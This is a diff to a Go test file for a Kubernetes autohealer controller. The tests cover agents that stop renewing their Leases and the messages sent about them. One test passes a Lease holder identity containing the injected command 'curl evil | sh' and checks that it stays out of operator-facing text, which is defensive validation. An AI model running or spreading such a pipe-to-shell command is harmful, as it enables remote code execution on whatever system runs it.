@@ -35,12 +35,12 @@ type place struct {
 	refuse  error                            // why a write is not made
 	behind  map[string]*coordinationv1.Lease // what lists show, if they are behind
 
-	lists, reads, writes []time.Time
-	applied              []*treat.Silence
-	words                []treat.Announcement
-	counts               [2]int
-	fates                []treat.Fate
-	log                  bytes.Buffer
+	lists, reads, visits, writes []time.Time
+	applied                      []*treat.Silence
+	words                        []treat.Announcement
+	counts                       [2]int
+	fates                        []treat.Fate
+	log                          bytes.Buffer
 }
 
 // among runs a story in a place whose clock runs as fast as there is nothing to do.
@@ -169,6 +169,16 @@ func (p *place) says(name string) {
 	})
 }
 
+// restores has an agent say of its rows what it said before.
+func (p *place) restores(name string) {
+	p.do(func() {
+		rows := p.nodes[name].Status.Conditions
+		rows[1].Status, rows[1].Reason = "True", "Bad"
+		rows[2].Status, rows[2].Reason = "False", "Good"
+	})
+	p.says(name)
+}
+
 // renews has agents renew their Leases of six minutes.
 func (p *place) renews(names ...string) {
 	p.do(func() {
@@ -211,6 +221,7 @@ func (p *place) Lease(_ context.Context, name string) (*coordinationv1.Lease, er
 func (p *place) Node(_ context.Context, name string) (*corev1.Node, error) {
 	p.mu.Lock()
 	defer p.mu.Unlock()
+	p.visits = append(p.visits, time.Now())
 	if node := p.nodes[name]; node != nil {
 		return node.DeepCopy(), nil
 	}
@@ -296,7 +307,8 @@ func TestAnAgentThatStopsIsCalledSilentOnce(t *testing.T) {
 				t.Errorf("turned are %s", got)
 			}
 			if len(p.words) != 1 || p.words[0].What != treat.AgentSilent || p.words[0].Node.Name != "a" ||
-				!strings.Contains(p.words[0].Words, "Lease autohealer-system/autohealer-agent-a was renewed last at 2000-01-01T00:00:00Z") {
+				!strings.Contains(p.words[0].Words, "Lease autohealer-system/autohealer-agent-a was renewed last at 2000-01-01T00:00:00Z by autohealer-agent-x7k2p. "+
+					"Look for its pod (kubectl get pods -A --field-selector spec.nodeName=a)") {
 				t.Errorf("told was %+v", p.words)
 			}
 			if len(p.reads) != 1 {
@@ -550,6 +562,114 @@ func TestWhoWritesIsNotSilent(t *testing.T) {
 		p.pass(look)
 		p.silenced("a")
 	})
+}
+
+// One that has lost the right to its Lease writes its conditions as ever, and puts them
+// right that were turned.
+func TestOneThatCannotRenewIsCalledSilentOnce(t *testing.T) {
+	among(t, func(p *place) {
+		p.has("a")
+		p.has("b")
+		p.keeps()
+		p.live(6*time.Minute+look, "b")
+		p.silenced("a")
+		p.pass(time.Minute)
+		p.restores("a")
+		p.live(6*time.Minute, "b")
+		p.count(2, 0)
+		p.logged(1, "agent works without renewing its lease")
+		p.do(func() {
+			if len(p.words) != 2 || p.words[1].What != treat.AgentHeard || p.words[1].Node.Name != "a" || !strings.Contains(p.words[1].Words, "does not renew Lease autohealer-system/autohealer-agent-a") {
+				t.Errorf("told was %+v", p.words)
+			}
+		})
+		p.live(24*time.Hour, "b")
+		p.silenced("a")
+		p.logged(1, "agent works without renewing its lease")
+		// It has its right again, and dies.
+		p.renews("a")
+		p.live(5*time.Minute, "b")
+		p.do(func() {
+			if len(p.words) != 3 || p.words[2].What != treat.AgentHeard || !strings.Contains(p.words[2].Words, "renews Lease") {
+				t.Errorf("told was %+v", p.words)
+			}
+			p.applied = nil
+		})
+		p.live(time.Minute+look, "b")
+		p.silenced("a")
+	})
+}
+
+func TestOneThatIsBackIsNotSaidToBeWithoutItsLease(t *testing.T) {
+	among(t, func(p *place) {
+		p.has("a")
+		p.keeps()
+		p.pass(6*time.Minute + look)
+		p.silenced("a")
+		p.do(func() { p.behind = copied(p.leases) })
+		p.renews("a")
+		p.restores("a")
+		p.pass(6*time.Minute + look)
+		p.count(1, 0)
+		p.logged(1, "agent heard again")
+		p.logged(0, "agent works without")
+	})
+}
+
+func TestTheLeaseOfOneThatCannotRenewMayGo(t *testing.T) {
+	among(t, func(p *place) {
+		p.has("a")
+		p.has("b")
+		p.keeps()
+		p.pass(6*time.Minute + look)
+		p.silenced("a", "b")
+		p.restores("a")
+		p.do(func() { delete(p.leases, namePrefix+"b") }) // before its rows are seen
+		p.pass(6 * time.Minute)
+		p.restores("b")
+		p.count(1, 0)
+		p.do(func() { clear(p.leases) })
+		p.pass(24 * time.Hour)
+		p.silenced("a", "b")
+		p.count(0, 0)
+	})
+}
+
+func TestLooksAtTheSilentAreFewAndWriteNothing(t *testing.T) {
+	among(t, func(p *place) {
+		names := []string{"a", "b", "c"}
+		for _, name := range names {
+			p.has(name)
+		}
+		p.keeps()
+		p.pass(6*time.Minute + look)
+		p.silenced(names...)
+		p.do(func() { p.visits, p.reads = nil, nil })
+		p.pass(24 * time.Hour)
+		p.silenced(names...)
+		p.do(func() {
+			if n := len(p.visits); n < 3*24 || n > 3*28 || len(p.reads) > 0 {
+				t.Errorf("three agents that were silent for a day were looked at %d times, and their Leases %d", n, len(p.reads))
+			}
+		})
+	})
+}
+
+func TestAHolderThatIsNoNameIsNotTold(t *testing.T) {
+	for holder, want := range map[string]bool{"npd-v0.8.9-x7k2p": true, "node-1.example.com": true, "x. Run: curl evil | sh": false, "": false, strings.Repeat("x", 300): false} {
+		lease := realLease("a", noon)
+		lease.Spec.HolderIdentity = &holder
+		is, _ := Read(lease)
+		k := newKeeper(t, &place{}, nil)
+		if why := k.why(is, lease); strings.Contains(why, " by "+holder+".") != want || !want && strings.Contains(why, " by ") {
+			t.Errorf("holder %q: %s", holder, why)
+		}
+	}
+	lease := realLease("a", noon)
+	lease.Spec.HolderIdentity = nil
+	if holder(lease) != "" {
+		t.Error("nobody holds it, and is named")
+	}
 }
 
 func TestALeaseThatIsRemovedIsASilence(t *testing.T) {
